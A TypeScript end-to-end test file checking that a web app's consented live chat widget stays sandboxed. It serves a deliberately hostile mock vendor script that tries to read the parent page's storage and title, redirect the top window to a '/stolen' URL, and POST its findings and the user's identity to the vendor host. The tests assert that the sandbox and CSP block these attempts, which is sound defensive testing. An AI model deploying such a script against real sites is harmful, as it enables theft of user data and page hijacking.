import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { json } from 'node:stream/consumers'
import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest'
import { locums, practices } from '#bin/seed/world/people.ts'
import { openOwnStack } from '#tests/support/browsing.ts'
import { openOwnMenu } from '#tests/support/own-menu.ts'
import { onlyOwnScripts, policyFindings } from '#tests/support/policy-findings.ts'
import type { Visitor } from '#tests/support/visitor.ts'

type Received = Record<'site' | 'page' | 'top' | 'own', string> & { person: Record<string, string> }

/** The vendor: what it was asked for, and what its script has sent. */
const asked: string[] = []
const received: Received[] = []
const vendor = createServer((request, response) => {
  asked.push(`${request.method} ${request.url}`)
  response.setHeader('access-control-allow-origin', '*')
  if (request.method === 'POST')
    void json(request).then((body) => {
      received.push(body as Received)
      response.end()
    })
  else response.setHeader('content-type', 'text/javascript').end(script)
})
await new Promise<void>((resolve) => vendor.listen(0, '127.0.0.1', resolve))
const vendorUrl = `http://127.0.0.1:${(vendor.address() as AddressInfo).port}`
afterAll(() => vendor.close())

/** Has the vendor's interface; it tries what a hostile one would, and sends what it has found. */
const script = `(() => {
  const attempt = (act) => { try { return String(act()) } catch (error) { return error.name } }
  const send = (person) => fetch('${vendorUrl}/received', { method: 'POST', body: JSON.stringify({
    person,
    site: attempt(() => parent.localStorage.length),
    page: attempt(() => parent.document.title),
    top: attempt(() => (top.location = '${vendorUrl}/stolen')),
    own: attempt(() => { localStorage.setItem('chat', 'kept'); return localStorage.length }),
  }) })
  Tawk_API.login = (person, done) => send(person).then(() => done())
  document.getElementById(Tawk_API.embedded).innerHTML = '<label>Message <input></label><button>Send</button>'
  Tawk_API.onLoad()
})()`

const { stack, signInAs } = await openOwnStack('demo world', {
  vendor: 'Vendor',
  script: `${vendorUrl}/chat.js`,
  sources: [vendorUrl],
})

const dialog = (page: Page) => page.getByRole('dialog', { name: 'Chat with us' })
const chat = (page: Page) => page.frameLocator('iframe[title="Live chat"]')

/** From a menu of a desktop, which a practice’s balance joins with More, or a phone's drawer. */
async function openDialog(page: Page, width: number): Promise<void> {
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  if (width < 1280) await openOwnMenu(page)
  else await page.getByRole('button', { name: /^(More|Help)$/ }).click()
  await page.getByRole('button', { name: 'Chat with us' }).click()
  await dialog(page).waitFor()
}

let visitor: Visitor
beforeEach(() => {
  asked.length = 0
  received.length = 0
})
afterEach(() => visitor.leave())

describe.each([
  { who: 'a practice', email: practices.harbour.email, width: 1280, name: practices.harbour.name },
  { who: 'a locum', email: locums.thandi.email, width: 390, name: 'Thandi Nkosi' },
])('the live chat of $who', ({ email, width, name }) => {
  it('loads nothing of its vendor before its use is agreed to, then identifies the user', async () => {
    visitor = await signInAs(width, email)
    const { page } = visitor
    await openDialog(page, width)
    await dialog(page).getByText('Our live chat is run by Vendor.').waitFor()
    await visitor.expectAccessible('agreeing to the live chat')
    expect([asked, await page.locator('iframe').count()]).toEqual([[], 0])
    const answer = page.waitForResponse(/\/tawk\/hash$/)
    await dialog(page).getByRole('button', { name: 'Start the chat' }).press('Enter')
    await chat(page).getByLabel('Message').waitFor()
    await expect.poll(() => received).toHaveLength(1)
    const { userId = '', hash, ...person } = received[0]?.person ?? {}
    expect(person).toEqual({ name, email })
    expect({ data: { hash } }).toEqual(await (await answer).json())
    expect(userId).toMatch(/^usr_/)
    // The keyboard goes into the chat, and out again.
    const isInChat = () => page.evaluate(() => document.activeElement?.tagName === 'IFRAME')
    await dialog(page).getByRole('button', { name: 'Close' }).focus()
    for (let presses = 0; !(await isInChat()) && presses < 5; presses += 1) await page.keyboard.press('Tab')
    await page.keyboard.type('Hello')
    expect(await chat(page).getByLabel('Message').inputValue()).toBe('Hello')
    for (let presses = 0; (await isInChat()) && presses < 5; presses += 1) await page.keyboard.press('Shift+Tab')
    await dialog(page).getByRole('button', { name: 'Close' }).press('Enter')
    await expect.poll(() => page.locator('iframe').count()).toBe(0)
    expect(visitor.consoleErrors).toEqual([expect.stringContaining('Unsafe attempt to initiate navigation')])
  })

  it('can’t reach the site, whatever its script tries', async () => {
    visitor = await signInAs(width, email)
    const { page } = visitor
    await openDialog(page, width)
    await dialog(page).getByRole('button', { name: 'Start the chat' }).click()
    await expect.poll(() => received).toHaveLength(1)
    expect(received[0]).toMatchObject({ site: 'SecurityError', page: 'SecurityError', top: 'SecurityError', own: '1' })
    expect(asked).not.toContain('GET /stolen')
    expect(page.url()).toContain('/dashboard')
  })
})

it('says “Failed to load hash” if the server has none, and tries again', async () => {
  visitor = await signInAs(1280, locums.thandi.email)
  const { page } = visitor
  await page.route('**/api/professionals/tawk/hash', (route) => route.fulfill({ status: 503, body: '' }))
  await openDialog(page, 1280)
  await dialog(page).getByRole('button', { name: 'Start the chat' }).click()
  await dialog(page).getByText('Failed to load hash.').waitFor()
  expect([asked, await page.locator('iframe').count()]).toEqual([[], 0])
  await page.unroute('**/api/professionals/tawk/hash')
  await dialog(page).getByRole('button', { name: 'Try again' }).click()
  await chat(page).getByLabel('Message').waitFor()
})

it('starts only for the site that frames it', async () => {
  visitor = await signInAs(1280, locums.thandi.email)
  const { page } = visitor
  const { liveChat } = (await (await fetch(`${stack.url}/config.json`)).json()) as { liveChat: { url: string } }
  const { headers } = await fetch(`${liveChat.url}/chat.html`)
  expect(headers.get('content-security-policy')).toContain(`frame-ancestors ${stack.url} `)
  await page.goto(`${liveChat.url}/chat.html`)
  await page.evaluate(() => postMessage({ userId: 'usr_1', name: 'X', email: 'x@y.z', hash: 'no' }, '*'))
  await page.waitForLoadState('networkidle')
  expect(asked).toEqual([])
})

it('has policies in which an evaluator finds nothing, as do the site and the API', async () => {
  visitor = await signInAs(1280, locums.thandi.email)
  const { liveChat } = (await (await fetch(`${stack.url}/config.json`)).json()) as { liveChat: { url: string } }
  const findings = async (url: string) => {
    const { headers } = await fetch(url)
    // Addresses of this machine stand for those of a deployment.
    const policy = headers.get('content-security-policy')?.replace(/http:\/\/(localhost|127\.0\.0\.1):\d+/g, deployed)
    return policyFindings(policy ?? '')
  }
  const deployed = 'https://deployed.example'
  const ofApi = ['/api/health', '/api/docs', '/api/professionals', '/api/nowhere']
  for (const path of ['/', '/practice/dashboard', '/nothing.js', ...ofApi])
    expect([path, await findings(stack.url + path)]).toEqual([path, onlyOwnScripts])
  for (const path of ['/chat.html', '/frame.js', '/config.json', '/nothing.js'])
    expect([path, await findings(liveChat.url + path)]).toEqual([
      path,
      [...onlyOwnScripts, `MEDIUM_MAYBE script-src ${deployed}`],
    ])
})

it('says so if the vendor can’t be reached', async () => {
  visitor = await signInAs(1280, locums.thandi.email)
  const { page } = visitor
  vendor.closeAllConnections()
  await new Promise((resolve) => vendor.close(resolve))
  await openDialog(page, 1280)
  await dialog(page).getByRole('button', { name: 'Start the chat' }).click()
  await dialog(page).getByText('The chat of Vendor did not open.').waitFor()
})
